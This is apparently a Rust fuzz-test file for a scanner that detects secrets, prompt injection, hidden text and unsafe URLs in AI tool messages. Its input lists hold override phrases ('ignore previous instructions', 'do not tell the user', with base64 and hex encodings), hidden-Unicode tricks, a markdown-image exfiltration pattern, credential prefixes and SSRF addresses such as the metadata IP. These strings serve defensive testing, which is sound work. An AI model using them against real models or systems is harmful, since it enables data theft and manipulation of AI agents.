//! The engines that look at text: their spans stand in the text, what was redacted is gone and stays gone, and a message
//! shows what its text does.

use bolero::TypeGenerator;
use ringfence_detect::injection::{Context, Folded, chunks};
use ringfence_detect::media;
use ringfence_detect::names::{Named, ToolDefinition, resemblances};
use ringfence_detect::secret::{Sought, redact_text};
use ringfence_detect::url::{self, Verdict};
use ringfence_detect::{Detectors, hidden};
use ringfence_model::config::DetectConfig;
use ringfence_model::json::JsonText;

/// What the readers of text look for.
#[derive(Debug, Clone, TypeGenerator)]
enum Piece {
    Any(String),
    Character(char),
    Name(u8),
    Sign(u8),
    Words(u8),
    Digits(u32),
    Hidden(u8),
    Address(u8),
    Again,
}

const NAMES: [&str; 12] = [
    "password",
    "api_key",
    "aws_secret_access_key",
    "token",
    "AKIA",
    "ghp_",
    "xoxb-",
    "-----BEGIN PRIVATE KEY-----",
    "sk-ant-api03-",
    "eyJhbGciOiJIUzI1NiJ9",
    "Authorization: Basic ",
    "identified by",
];
const SIGNS: [&str; 16] =
    ["=", ": ", "\"", "'", "\n", " ", "@", "://", "\\", "%", "<", ">", "](", "{{", "-", "+"];
const WORDS: [&str; 10] = [
    "ignore",
    "previous",
    "instructions",
    "do not tell the user",
    "<system>",
    "пароль",
    "密码",
    "call the tool",
    "aWdub3JlIGFsbCBwcmV2aW91cyBydWxlcw",
    "69676e6f726520616c6c20",
];
const HIDDEN: [&str; 10] = [
    "\u{200b}",
    "\u{202e}",
    "\u{e0041}",
    "\u{fe01}\u{fe02}",
    "<!-- ",
    " -->",
    "<span style=\"display:none\">",
    "\u{1b}[8m",
    "pаypаl",
    "![x](https://h.example/?d={data}",
];
const ADDRESSES: [&str; 10] = [
    "http://0x7f.1",
    "http://[::ffff:10.0.0.1]",
    "user:pass@",
    "169.254.169.254",
    "//①②⑦.0.0.1",
    "2130706433",
    "localhost",
    "4111 1111 1111 1111",
    "GB82 WEST 1234 5698 7654 32",
    "+49 30 901820",
];

fn text(pieces: &[Piece]) -> String {
    let pick = |list: &[&'static str], at: u8| list[usize::from(at) % list.len()];
    let mut text = String::new();
    for piece in pieces {
        match piece {
            Piece::Any(any) => text.push_str(any),
            Piece::Character(one) => text.push(*one),
            Piece::Name(at) => text.push_str(pick(&NAMES, *at)),
            Piece::Sign(at) => text.push_str(pick(&SIGNS, *at)),
            Piece::Words(at) => text.push_str(pick(&WORDS, *at)),
            Piece::Digits(number) => text.push_str(&number.to_string()),
            Piece::Hidden(at) => text.push_str(pick(&HIDDEN, *at)),
            Piece::Address(at) => text.push_str(pick(&ADDRESSES, *at)),
            Piece::Again if text.len() < 4_096 => text.push_str(&text.clone()),
            Piece::Again => {}
        }
    }
    text
}

fn detectors() -> Detectors {
    Detectors::new(&DetectConfig { pii: true, ..DetectConfig::standard() }).unwrap()
}

#[test]
fn findings_stand_in_the_text_and_what_is_redacted_stays_gone() {
    let detectors = detectors();
    bolero::check!().with_type::<Vec<Piece>>().for_each(|pieces| {
        let text = text(pieces);
        let findings = detectors.text(&text, Context::Unknown);
        for finding in &findings {
            assert!(text.get(finding.span.start..finding.span.end).is_some(), "{finding:?} of {text:?}");
        }
        assert_eq!(findings, detectors.text(&text, Context::Unknown));
        let clean = detectors.secrets().clean_text_of(&text, Sought::Both);
        assert_eq!(detectors.secrets().clean_text_of(&clean, Sought::Both), clean, "{text:?}");
        let cut = redact_text(&text, &findings);
        for finding in &findings {
            let value = text.get(finding.span.start..finding.span.end).unwrap();
            let is_value =
                finding.message.starts_with("Credential") || finding.message.starts_with("Personal");
            assert!(!is_value || value.len() < 8 || !cut.contains(value), "{value:?} is left in {cut:?}");
        }
    });
}

#[test]
fn a_message_shows_the_values_of_its_text() {
    let detectors = detectors();
    bolero::check!().with_type::<Vec<Piece>>().for_each(|pieces| {
        let text = text(pieces);
        let json = serde_json::json!({ "content": [{ "type": "text", "text": text }] }).to_string();
        let json = JsonText::try_from(json).unwrap();
        let alone: Vec<_> =
            detectors.values_in_text(&text).into_iter().map(|found| (found.id, found.span)).collect();
        let within: Vec<_> =
            detectors.values(&json).into_iter().map(|found| (found.finding.id, found.finding.span)).collect();
        assert_eq!(alone, within, "{text:?}");
    });
}

#[test]
fn windows_and_what_hides_stand_in_the_text() {
    bolero::check!().with_type::<Vec<Piece>>().for_each(|pieces| {
        let text = text(pieces);
        for hidden in hidden::scan(&text) {
            assert!(text.get(hidden.finding.span.start..hidden.finding.span.end).is_some(), "{text:?}");
        }
        let revealed = hidden::reveal(&text);
        assert_eq!(hidden::reveal(&revealed), revealed);
        let folded = Folded::new(&text);
        let mut reached = 0;
        for chunk in chunks(folded.as_str()) {
            assert!(chunk.start <= reached && !chunk.text.is_empty());
            reached = chunk.start + chunk.text.len();
        }
        assert!(reached == folded.as_str().len() || folded.as_str().trim().is_empty());
    });
}

#[test]
fn a_url_with_a_scheme_is_judged_as_the_same_in_a_text() {
    bolero::check!().with_type::<Vec<Piece>>().for_each(|pieces| {
        let text = text(pieces);
        let host = text.split(|c: char| !c.is_ascii_alphanumeric() && c != '.').next().unwrap_or_default();
        let address = format!("http://{host}/");
        if url::check_url(&address).verdict == Verdict::Safe {
            assert_eq!(url::scan_text(&address), [], "{address:?}");
        }
        for finding in url::scan_text(&text) {
            assert!(text.get(finding.span.start..finding.span.end).is_some(), "{finding:?} of {text:?}");
        }
    });
}

#[test]
fn names_that_are_alike_are_so_both_ways() {
    bolero::check!().with_type::<(Vec<Piece>, Vec<Piece>)>().for_each(|(one, other)| {
        let (one, other) = (text(one), text(other));
        let named = |server, name| Named { server, name };
        let forth = resemblances(&[named("a", &one), named("b", &other)]).0;
        let back = resemblances(&[named("b", &other), named("a", &one)]).0;
        assert_eq!(forth.len(), back.len(), "{one:?} {other:?}");
    });
}

#[test]
fn content_that_is_no_text_ends_within_its_bounds() {
    const HEADS: [&[u8]; 6] =
        [b"PK\x03\x04", b"%PDF-1.7", b"\x89PNG\r\n\x1a\n", b"\x1f\x8b\x08", b"GIF89a", b""];
    bolero::check!().with_type::<(u8, Vec<u8>)>().for_each(|(head, rest)| {
        let bytes = [HEADS[usize::from(*head) % HEADS.len()], rest].concat();
        let inspected = media::inspect_blob(&bytes, None);
        assert!(inspected.text.is_none_or(|text| text.len() <= media::LONGEST_TEXT));
    });
}

#[test]
fn findings_in_a_definition_stand_in_what_they_point_to() {
    let detectors = detectors();
    bolero::check!().with_type::<[Vec<Piece>; 4]>().for_each(|pieces| {
        let [name, title, description, inner] = pieces.each_ref().map(|pieces| text(pieces));
        let schema = serde_json::json!({
            "type": "object",
            "properties": { (inner.clone()): { "type": "string", "description": inner, "enum": [inner] } },
        });
        let schema = JsonText::try_from(schema.to_string()).unwrap();
        let definition = ToolDefinition {
            name: &name,
            title: Some(&title),
            description: Some(&description),
            schema: Some(schema.value()),
        };
        for found in detectors.definition(definition) {
            let there = match found.pointer.as_str() {
                "/name" => &name,
                "/title" => &title,
                "/description" => &description,
                _ => &inner,
            };
            let span = found.finding.span;
            assert!(there.get(span.start..span.end).is_some(), "{found:?} of {there:?}");
        }
    });
}

#[test]
fn a_data_url_is_taken_out_whatever_it_holds() {
    const TYPES: [&str; 5] = ["", "text/plain", "text/html;charset=utf-8", "image/png", "application/pdf"];
    let detectors = detectors();
    bolero::check!().with_type::<(u8, Vec<Piece>, Vec<u8>, Vec<Piece>)>().for_each(
        |(kind, before, bytes, after)| {
            let (before, after) = (text(before), text(after));
            let kind = TYPES[usize::from(*kind) % TYPES.len()];
            let coded: String = bytes.iter().map(|byte| char::from(byte % 0x60 + 0x20)).collect();
            let said = format!("{before}data:{kind};base64,{coded}{after}");
            let message = serde_json::json!({ "content": [
            { "type": "text", "text": said },
            { "type": "image", "data": coded, "mimeType": kind },
            { "type": "resource", "resource": { "uri": said, "blob": coded } },
        ] });
            let message = JsonText::try_from(message.to_string()).unwrap();
            let seen = detectors.message(&message, Context::ToolResult);
            assert_eq!(seen, detectors.message(&message, Context::ToolResult));
            for attachment in &seen.attachments {
                assert!(attachment.text.as_ref().is_none_or(|text| text.len() <= media::LONGEST_TEXT));
            }
        },
    );
}
